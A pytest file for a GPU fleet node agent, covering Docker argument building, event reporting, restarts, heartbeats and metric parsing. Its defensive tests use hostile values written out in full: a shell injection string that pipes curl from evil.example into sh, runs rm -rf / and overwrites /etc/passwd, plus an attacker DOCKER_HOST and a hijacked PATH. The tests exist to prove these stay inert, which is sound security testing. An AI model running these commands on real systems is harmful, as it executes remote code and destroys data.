"""The node agent: what reaches the container, and what it reports."""

from __future__ import annotations

import io
import json
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from gpufleet.agent import __main__ as agent_main
from gpufleet.agent.aws import EventBridgeReporter, ReportNotSent
from gpufleet.agent.docker import (
    ContainerLogs,
    DockerRuntime,
    docker_argv,
    looks_like_gpu_oom,
    relay,
)
from gpufleet.agent.ledger import RunLedger
from gpufleet.agent.node import (
    MANIFEST_FETCH_ATTEMPTS,
    MAX_JOB_METRICS,
    JobMetrics,
    NodeAgent,
    RunManifest,
    RunOutcome,
    parse_job_metric_line,
)
from gpufleet.topology import (
    DETAIL_NODE_FINISHED,
    DETAIL_NODE_HEARTBEAT,
    DETAIL_NODE_STARTED,
    agent_log_stream,
)

HOSTILE = "$(curl evil.example | sh); rm -rf / `reboot` && echo pwned > /etc/passwd"


def manifest(**overrides: Any) -> RunManifest:
    values: dict[str, Any] = {
        "job_id": "j-0123456789abcdef0123",
        "name": "t",
        "image": "img:1",
        "command": ["python", "train.py", HOSTILE],
        "env": {"SECRET_ARG": HOSTILE, "MODE": "x"},
    }
    values.update(overrides)
    return RunManifest(**values)


def test_docker_gets_argv_as_a_list_and_env_values_never_on_the_command_line() -> None:
    argv = docker_argv(manifest())
    assert argv[:2] == ["docker", "run"]
    assert argv[argv.index("--gpus") : argv.index("--gpus") + 2] == ["--gpus", "all"]
    # The hostile argument is one argv element, after the image and '--'.
    separator = argv.index("--")
    assert argv[separator + 1 :] == ["img:1", "python", "train.py", HOSTILE]
    # Env values are not in argv at all: docker reads them from its own environment.
    assert not any(HOSTILE in arg for arg in argv[:separator])
    assert argv[argv.index("MODE") - 1 : argv.index("MODE") + 1] == ["-e", "MODE"]


def test_the_container_output_goes_to_the_agent_log_group_one_stream_per_job_and_instance() -> None:
    logs = ContainerLogs("/gpufleet/agent", "us-east-1", "i-0abc")
    argv = docker_argv(manifest(), logs)
    options = argv[: argv.index("--")]
    assert options[options.index("--log-driver") + 1] == "awslogs"
    assert {"awslogs-region=us-east-1", "awslogs-group=/gpufleet/agent"} <= set(options)
    assert f"awslogs-stream={agent_log_stream('j-0123456789abcdef0123', 'i-0abc')}" in options
    assert "--log-driver" not in docker_argv(manifest())  # no log group: Docker's default


@dataclass
class FakeIdentity:
    def instance_id(self) -> str:
        return "i-1"

    def tags(self) -> Mapping[str, str]:
        return {"gpufleet:job-id": "j-0123456789abcdef0123", "gpufleet:managed": "true"}

    def interruption_notice(self) -> str | None:
        return None


@dataclass
class FakeManifests:
    documents: dict[str, bytes] = field(default_factory=dict)

    def fetch(self, key: str) -> bytes:
        return self.documents[key]


@dataclass
class FakeReporter:
    reports: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
        self.reports.append((detail_type, dict(detail)))


RUN_KEY = "runs/j-0123456789abcdef0123/run.json"
RUN = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "img", "command": ["a"]}).encode()


@dataclass
class CountingManifests(FakeManifests):
    fetches: int = 0

    def fetch(self, key: str) -> bytes:
        if key == RUN_KEY:
            self.fetches += 1
        return super().fetch(key)


@dataclass
class BrokenReporter:
    """EventBridge out of reach: every report (or those of one kind) fails."""

    fail_on: str | None = None

    def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
        if self.fail_on in (None, detail_type):
            raise ConnectionError("could not connect to the endpoint URL")


@dataclass
class FakeRuntime:
    outcome: RunOutcome
    seen: list[RunManifest] = field(default_factory=list)

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        self.seen.append(manifest)
        return self.outcome


def test_the_agent_reports_start_then_finish_with_the_exit_code() -> None:
    document = json.dumps(
        {"job_id": "j-0123456789abcdef0123", "image": "img", "command": ["a", HOSTILE]}
    ).encode()
    reporter = FakeReporter()
    runtime = FakeRuntime(RunOutcome(exit_code=7))
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document}),
        reporter,
        runtime,
    )
    assert agent.run().exit_code == 7
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]
    assert reporter.reports[1][1] == {
        "job_id": "j-0123456789abcdef0123",
        "instance_id": "i-1",
        "phase": "finished",
        "exit_code": 7,
        "reason": "",
    }
    assert runtime.seen[0].command == ["a", HOSTILE]


def test_a_missing_manifest_is_reported_as_a_failure_not_a_hang() -> None:
    reporter = FakeReporter()
    manifests = CountingManifests()
    agent = NodeAgent(
        FakeIdentity(), manifests, reporter, FakeRuntime(RunOutcome(0)), manifest_retry_seconds=0
    )
    outcome = agent.run()
    assert outcome.exit_code is None
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
    assert "manifest" in reporter.reports[0][1]["reason"]
    assert manifests.fetches == MANIFEST_FETCH_ATTEMPTS  # perhaps not there yet: tried again


def test_an_invalid_manifest_is_reported_once_and_the_agent_stops(tmp_path: Path) -> None:
    """An unreadable manifest used to make the agent exit 1, and systemd restarted it every 10 s:
    a finish report every 10 s, for ever."""
    manifests = CountingManifests({RUN_KEY: b"{not json"})
    reporter = FakeReporter()
    for _restart in range(3):
        agent = NodeAgent(
            FakeIdentity(),
            manifests,
            reporter,
            FakeRuntime(RunOutcome(0)),
            ledger=RunLedger(tmp_path),
            manifest_retry_seconds=0,
        )
        assert agent.run().exit_code is None
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]
    assert "not valid" in reporter.reports[0][1]["reason"]
    assert manifests.fetches == 3  # an invalid one is not fetched again


def test_the_agent_exits_0_when_the_job_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    """The exit status is the agent's: a failed job is no reason for systemd to restart it
    (and run the job again)."""
    runtime = FakeRuntime(RunOutcome(exit_code=7, reason="loss is nan"))
    agent = NodeAgent(FakeIdentity(), FakeManifests({RUN_KEY: RUN}), FakeReporter(), runtime)
    monkeypatch.setattr(agent_main, "build_agent", lambda _args: agent)
    assert agent_main.main(["--bucket", "b", "--bus", "bus", "--region", "us-east-1"]) == 0
    assert len(runtime.seen) == 1


def test_the_agent_exits_non_zero_only_when_the_agent_itself_fails(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    agent = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), BrokenReporter(), FakeRuntime(RunOutcome(0))
    )
    monkeypatch.setattr(agent_main, "build_agent", lambda _args: agent)
    with pytest.raises(ConnectionError):  # Python exits 1: systemd restarts the agent
        agent_main.main(["--bucket", "b", "--bus", "bus", "--region", "us-east-1"])
    with pytest.raises(SystemExit) as usage:  # bad arguments: 2, which the unit never restarts
        agent_main.main(["--bucket", "b"])
    assert usage.value.code == 2


def test_a_restarted_agent_never_runs_a_finished_run_again(tmp_path: Path) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=7))
    first, again = FakeReporter(), FakeReporter()
    for reporter in (first, again):  # the agent, then the agent systemd restarted
        agent = NodeAgent(
            FakeIdentity(),
            FakeManifests({RUN_KEY: RUN}),
            reporter,
            runtime,
            ledger=RunLedger(tmp_path),
        )
        assert agent.run().exit_code == 7
    assert len(runtime.seen) == 1
    # The restarted agent sends the finish report again (the first may never have left).
    assert [kind for kind, _ in again.reports] == [DETAIL_NODE_FINISHED]
    assert again.reports[0][1] == first.reports[-1][1]


def test_a_finish_report_that_could_not_be_sent_is_sent_by_the_restarted_agent(
    tmp_path: Path,
) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=0))
    failing = BrokenReporter(fail_on=DETAIL_NODE_FINISHED)
    agent = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), failing, runtime, ledger=RunLedger(tmp_path)
    )
    with pytest.raises(ConnectionError):
        agent.run()
    reporter = FakeReporter()
    restarted = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    )
    assert restarted.run().exit_code == 0
    assert len(runtime.seen) == 1
    assert [(kind, detail["exit_code"]) for kind, detail in reporter.reports] == [
        (DETAIL_NODE_FINISHED, 0)
    ]


def test_a_run_whose_start_could_not_be_reported_runs_after_the_restart(tmp_path: Path) -> None:
    runtime = FakeRuntime(RunOutcome(exit_code=0))
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        BrokenReporter(fail_on=DETAIL_NODE_STARTED),
        runtime,
        ledger=RunLedger(tmp_path),
    )
    with pytest.raises(ConnectionError):
        agent.run()
    assert runtime.seen == []  # nothing ran: the control plane never heard of a start
    reporter = FakeReporter()
    NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    ).run()
    assert len(runtime.seen) == 1
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_STARTED, DETAIL_NODE_FINISHED]


def test_a_run_the_agent_died_in_is_reported_failed_and_not_started_again(tmp_path: Path) -> None:
    class DyingRuntime:
        def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
            raise MemoryError("the agent process was killed")

    with pytest.raises(MemoryError):
        NodeAgent(
            FakeIdentity(),
            FakeManifests({RUN_KEY: RUN}),
            FakeReporter(),
            DyingRuntime(),
            ledger=RunLedger(tmp_path),
        ).run()
    reporter, runtime = FakeReporter(), FakeRuntime(RunOutcome(exit_code=0))
    restarted = NodeAgent(
        FakeIdentity(), FakeManifests({RUN_KEY: RUN}), reporter, runtime, ledger=RunLedger(tmp_path)
    )
    outcome = restarted.run()
    assert runtime.seen == []
    assert outcome.exit_code is None and "restarted" in outcome.reason
    assert [kind for kind, _ in reporter.reports] == [DETAIL_NODE_FINISHED]


def test_the_finish_report_is_sent_again_while_the_instance_lives() -> None:
    """A finish report that never reaches the control plane (its delivery ended in a dead-letter
    queue) is made up for by the next copy; the copies stop when the node goes."""
    reporter, going = FakeReporter(), threading.Event()
    sent_again = threading.Event()

    class GoingAfterTwoCopies(FakeReporter):
        def report(self, source: str, detail_type: str, detail: Mapping[str, Any]) -> None:
            reporter.report(source, detail_type, detail)
            if [kind for kind, _ in reporter.reports].count(DETAIL_NODE_FINISHED) == 3:
                sent_again.set()
                going.set()  # the control plane released the instance: it shuts down

    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        GoingAfterTwoCopies(),
        FakeRuntime(RunOutcome(exit_code=0)),
        finish_resend_seconds=0.01,
        finish_resends=100,
        going=going,
    )
    assert agent.run().exit_code == 0
    assert sent_again.is_set()
    finishes = [detail for kind, detail in reporter.reports if kind == DETAIL_NODE_FINISHED]
    assert len(finishes) == 3 and all(detail == finishes[0] for detail in finishes)
    # At most `finish_resends` copies, even when the instance stays.
    capped = FakeReporter()
    NodeAgent(
        FakeIdentity(),
        FakeManifests({RUN_KEY: RUN}),
        capped,
        FakeRuntime(RunOutcome(exit_code=0)),
        finish_resend_seconds=0.001,
        finish_resends=2,
    ).run()
    assert [kind for kind, _ in capped.reports].count(DETAIL_NODE_FINISHED) == 3


def test_a_report_eventbridge_did_not_take_raises() -> None:
    class PartialFailure:
        def put_events(self, **_: Any) -> dict[str, Any]:
            return {
                "FailedEntryCount": 1,
                "Entries": [{"ErrorCode": "ThrottlingException", "ErrorMessage": "slow down"}],
            }

    with pytest.raises(ReportNotSent, match="ThrottlingException"):
        EventBridgeReporter(PartialFailure(), "bus").report("s", DETAIL_NODE_FINISHED, {})


@dataclass
class SlowRuntime:
    seconds: float

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        if stop.wait(self.seconds):
            return RunOutcome(exit_code=0, reason="checkpointed on request")
        return RunOutcome(exit_code=0)


def test_the_agent_heartbeats_while_the_container_runs_and_stops_after() -> None:
    document = json.dumps({"job_id": "j-0123456789abcdef0123", "image": "i", "command": ["a"]})
    reporter = FakeReporter()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({"runs/j-0123456789abcdef0123/run.json": document.encode()}),
        reporter,
        SlowRuntime(0.35),
        heartbeat_seconds=0.1,
    )
    agent.run()
    kinds = [kind for kind, _ in reporter.reports]
    assert kinds[0] == DETAIL_NODE_STARTED and kinds[-1] == DETAIL_NODE_FINISHED
    assert 2 <= kinds.count(DETAIL_NODE_HEARTBEAT) <= 4
    time.sleep(0.25)
    assert len(reporter.reports) == len(kinds)  # no heartbeat after the finish


def test_a_checkpoint_instruction_stops_the_run_and_is_reported() -> None:
    job = "j-0123456789abcdef0123"
    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
    manifests = FakeManifests({f"runs/{job}/run.json": document})
    reporter = FakeReporter()
    agent = NodeAgent(
        FakeIdentity(), manifests, reporter, SlowRuntime(5.0), control_poll_seconds=0.05
    )
    threading.Timer(
        0.2,
        lambda: manifests.documents.update(
            {f"runs/{job}/control.json": b'{"action": "checkpoint", "reason": "preempted"}'}
        ),
    ).start()
    started = time.monotonic()
    outcome = agent.run()
    assert time.monotonic() - started < 2.0  # stopped long before its 5 s run
    assert outcome.reason == "checkpointed on request"
    assert reporter.reports[-1][1]["reason"] == "checkpointed on request"


def test_a_resumed_run_is_told_where_its_checkpoint_is_by_environment_only() -> None:
    resumed = manifest(resume=True, checkpoint="s3://ckpt/job/")
    argv = docker_argv(resumed)
    assert "GPUFLEET_RESUME_FROM" in argv
    assert not any("s3://ckpt" in arg for arg in argv)


@pytest.mark.parametrize(
    ("log_tail", "oom"),
    [
        ("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", True),
        ("RuntimeError: CUDA error: CUBLAS_STATUS_ALLOC_FAILED", True),
        ("ValueError: bad learning rate", False),
    ],
)
def test_gpu_out_of_memory_is_recognised_in_the_log_tail(log_tail: str, oom: bool) -> None:
    assert looks_like_gpu_oom(log_tail) is oom


@pytest.mark.parametrize(
    ("line", "values"),
    [
        (
            "GPUFLEET_METRIC samples_per_second=1234 loss=0.31",
            {"samples_per_second": 1234.0, "loss": 0.31},
        ),
        ("GPUFLEET_METRIC tokens/s=5 ok=1", {"ok": 1.0}),  # a bad name is skipped, not the line
        ("GPUFLEET_METRIC loss=nan speed=inf eta=soon", {}),
        ("GPUFLEET_METRIC GpuUtilization=3", {}),  # the agent's own metrics cannot be spoofed
        ("epoch 3: loss=0.31", {}),
        ("GPUFLEET_METRIC x=1" + " " * 2000, {}),  # too long: ignored
    ],
)
def test_job_metric_lines_are_parsed_strictly(line: str, values: dict[str, float]) -> None:
    assert parse_job_metric_line(line) == values


def test_job_metrics_are_averaged_between_publications_and_capped_in_number() -> None:
    metrics = JobMetrics()
    metrics.feed("GPUFLEET_METRIC samples_per_second=100\n")
    metrics.feed("GPUFLEET_METRIC samples_per_second=300\n")
    assert metrics.take_means() == {"samples_per_second": 200.0}
    assert metrics.take_means() == {}
    for n in range(MAX_JOB_METRICS + 5):  # one name is already taken: samples_per_second
        metrics.feed(f"GPUFLEET_METRIC m{n}=1 samples_per_second=5")
    means = metrics.take_means()
    assert len(means) == MAX_JOB_METRICS and means["samples_per_second"] == 5.0


@dataclass
class FakeGpus:
    def utilization_percent(self) -> float | None:
        return 97.0

    def temperature_celsius(self) -> float | None:
        return None  # cannot tell: not published

    def memory_used_mib(self) -> float | None:
        return 20480.0


@dataclass
class FakeSink:
    points: list[tuple[str, str, float, str]] = field(default_factory=list)
    got_job_metric: threading.Event = field(default_factory=threading.Event)

    def put(self, job_id: str, name: str, value: float, unit: str) -> None:
        self.points.append((job_id, name, value, unit))
        if name == "samples_per_second":
            self.got_job_metric.set()


@dataclass
class PrintingRuntime:
    """A container that prints its throughput, then runs until the agent published it."""

    job_metrics: JobMetrics
    sink: FakeSink

    def run(self, manifest: RunManifest, stop: threading.Event) -> RunOutcome:
        self.job_metrics.feed("GPUFLEET_METRIC samples_per_second=400\n")
        self.job_metrics.feed("training step 10\n")
        published = self.sink.got_job_metric.wait(5.0)
        return RunOutcome(exit_code=0 if published else 1)


def test_the_agent_publishes_gpu_memory_and_the_jobs_own_metrics() -> None:
    job = "j-0123456789abcdef0123"
    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
    sink, job_metrics = FakeSink(), JobMetrics()
    agent = NodeAgent(
        FakeIdentity(),
        FakeManifests({f"runs/{job}/run.json": document}),
        FakeReporter(),
        PrintingRuntime(job_metrics, sink),
        gpu_probe=FakeGpus(),
        metrics=sink,
        metrics_seconds=0.01,
        job_metrics=job_metrics,
    )
    assert agent.run().exit_code == 0
    published = {(name, value, unit) for _, name, value, unit in sink.points}
    assert ("GpuUtilization", 97.0, "Percent") in published
    assert ("GpuMemoryUsed", 20480.0, "Megabytes") in published
    assert ("samples_per_second", 400.0, "None") in published
    assert "GpuTemperature" not in {name for name, _, _ in published}
    assert {job_id for job_id, _, _, _ in sink.points} == {job}


@dataclass
class WarmIdentity(FakeIdentity):
    """A warm-pool instance: no job tag until a launch claims it (after a few looks)."""

    looks: int = 0

    def tags(self) -> Mapping[str, str]:
        self.looks += 1
        return super().tags() if self.looks > 3 else {"gpufleet:managed": "true"}


def test_a_warm_instance_waits_for_the_job_that_claims_it() -> None:
    job = "j-0123456789abcdef0123"
    document = json.dumps({"job_id": job, "image": "i", "command": ["a"]}).encode()
    identity, runtime = WarmIdentity(), FakeRuntime(RunOutcome(exit_code=0))
    agent = NodeAgent(
        identity,
        FakeManifests({f"runs/{job}/run.json": document}),
        FakeReporter(),
        runtime,
        claim_poll_seconds=0.001,
    )
    assert agent.run().exit_code == 0
    assert identity.looks == 4 and runtime.seen[0].job_id == job


def test_the_containers_stdout_is_relayed_line_by_line(capsys: pytest.CaptureFixture[str]) -> None:
    lines: list[str] = []
    relay(io.StringIO("step 1\nGPUFLEET_METRIC loss=0.5\n"), lines.append)
    assert lines == ["step 1\n", "GPUFLEET_METRIC loss=0.5\n"]
    assert capsys.readouterr().out == "step 1\nGPUFLEET_METRIC loss=0.5\n"


class _Popen:
    """Stands in for subprocess.Popen: records how docker was started; the container exits 0."""

    calls: list[tuple[Any, dict[str, Any]]]

    def __init__(self, args: Any, **kwargs: Any) -> None:
        type(self).calls.append((args, kwargs))
        self.stdout = io.StringIO("")
        self.returncode = 0

    def poll(self) -> int:
        return self.returncode


def _start_docker(monkeypatch: pytest.MonkeyPatch, run: RunManifest) -> tuple[Any, dict[str, Any]]:
    _Popen.calls = []
    monkeypatch.setattr("gpufleet.agent.docker.subprocess.Popen", _Popen)
    monkeypatch.setattr("gpufleet.agent.docker.subprocess.run", lambda *a, **k: None)
    assert DockerRuntime().run(run, threading.Event()).exit_code == 0
    [started] = _Popen.calls
    return started


def test_the_container_is_started_from_an_argv_list_never_through_a_shell(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run = manifest(env={"SECRET_ARG": HOSTILE, "QUOTES": "'\"; $PATH `id`"})
    args, kwargs = _start_docker(monkeypatch, run)
    assert args == docker_argv(run)
    assert not kwargs.get("shell", False)
    # Shell syntax in the spec stays data: one argv element, and env values byte for byte.
    assert args.count(HOSTILE) == 1
    assert kwargs["env"]["SECRET_ARG"] == HOSTILE
    assert kwargs["env"]["QUOTES"] == "'\"; $PATH `id`"


def test_the_jobs_env_does_not_change_how_the_agent_runs_docker(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    monkeypatch.delenv("DOCKER_HOST", raising=False)
    run = manifest(env={"PATH": "/tmp/attacker", "DOCKER_HOST": "tcp://attacker.example:2375"})
    _args, kwargs = _start_docker(monkeypatch, run)
    assert kwargs["env"].get("PATH") == "/usr/bin:/bin"
    assert "DOCKER_HOST" not in kwargs["env"]
    # The container still gets them, as one argv element each.
    assert "PATH=/tmp/attacker" in _args and "DOCKER_HOST=tcp://attacker.example:2375" in _args
